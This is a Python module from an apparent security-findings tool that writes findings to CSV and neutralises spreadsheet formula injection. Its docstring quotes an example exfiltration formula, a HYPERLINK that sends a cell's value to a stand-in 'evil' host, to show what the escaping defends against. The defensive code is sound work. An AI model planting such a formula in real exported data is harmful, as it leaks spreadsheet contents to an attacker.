"""Findings as CSV: one row per finding, stable columns, spreadsheet formulas neutralised.

Every cell that a spreadsheet would read as a formula — one starting with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return (or their full-width forms) — gets a leading ``'``, so a user
agent such as ``=HYPERLINK("http://evil/?"&A1,"click")`` shows as text in Excel, LibreOffice
and Google Sheets instead of running (OWASP "CSV injection"). Control, bidirectional and
zero-width characters inside values (a raw ESC, a right-to-left override) are written as visible
escapes (:func:`trailsight.text.visible`: ``\\x1b``, ``\\u202e``, a newline as ``\\n``).
Values are otherwise kept whole: long values are not cut (spreadsheets show at most 32,767
characters of a cell; the CSV itself holds all of it). Lists are joined with ``; `` (event ids
with spaces, explanation lines with newlines: the only line breaks inside cells).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import TextIO

from trailsight.finding import Finding
from trailsight.findings.export_common import iso_z, utf8_clean
from trailsight.findings.names import person_name
from trailsight.text import visible

#: The columns, in order. New columns are only ever appended.
CSV_COLUMNS: tuple[str, ...] = (
    "id",
    "finding_type",
    "title",
    "severity",
    "severity_label",
    "confidence",
    "risk_score",
    "score",
    "status",
    "tactic",
    "tactic_id",
    "technique",
    "principal",
    "actor",
    "identity_type",
    "account_id",
    "first_seen",
    "last_seen",
    "count",
    "anomalous_apis",
    "source_ips",
    "asns",
    "countries",
    "cities",
    "user_agents",
    "access_keys",
    "session_names",
    "detectors",
    "explanation",
    "event_ids",
    "who",
)

_FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def neutralise(value: str) -> str:
    """``value`` with a leading ``'`` if a spreadsheet would take it for a formula."""
    return "'" + value if value.startswith(_FORMULA_START) else value


def _join(values: Iterable[object], sep: str = "; ") -> str:
    return sep.join(str(v) for v in values if v is not None and v != "")


def _unique(values: Iterable[object]) -> list[object]:
    seen: dict[object, None] = {}
    for v in values:
        if v is not None and v != "":
            seen.setdefault(v, None)
    return list(seen)


def finding_row(f: Finding) -> list[str]:
    """The CSV cells of one finding, in :data:`CSV_COLUMNS` order, neutralised."""
    apis = [
        f"{a.service}:{a.event_name} ok={a.success} failed={a.failure}"
        + (" (" + ", ".join(f"{k}×{v}" for k, v in sorted(a.error_codes.items())) + ")" if a.error_codes else "")
        for a in f.anomalous_apis
    ]
    cells = [
        f.id,
        f.finding_type,
        f.title,
        f"{f.severity:g}",
        f.severity_label,
        f.confidence,
        str(f.risk_score),
        f"{f.score:.4f}",
        f.status,
        f.tactic or "",
        f.tactic_id or "",
        f.technique or "",
        f.principal,
        f.actor,
        f.identity_type,
        f.account_id,
        iso_z(f.first_seen),
        iso_z(f.last_seen),
        str(f.count),
        _join(apis),
        _join(n.ip for n in f.networks),
        _join(_unique(f"AS{n.asn} {n.as_org or ''}".strip() for n in f.networks if n.asn is not None)),
        _join(_unique(n.country for n in f.networks)),
        _join(_unique(n.city for n in f.networks)),
        _join(f.user_agents),
        _join(f.access_keys),
        _join(f.session_names),
        _join(f"{k}={v:g}" for k, v in sorted(f.detectors.items())),
        _join((visible(line) for line in f.explanation), "\n"),
        _join(f.event_ids, " "),
        person_name(f.principal, f.actor),
    ]
    explanation = CSV_COLUMNS.index("explanation")
    return [neutralise(utf8_clean(c if k == explanation else visible(c))) for k, c in enumerate(cells)]


def write_csv(findings: Iterable[Finding], stream: TextIO) -> int:
    """Write a header and one row per finding; return the number of findings written."""
    writer = csv.writer(stream, quoting=csv.QUOTE_MINIMAL, lineterminator="\r\n")
    writer.writerow(CSV_COLUMNS)
    n = 0
    for f in findings:
        writer.writerow(finding_row(f))
        n += 1
    return n
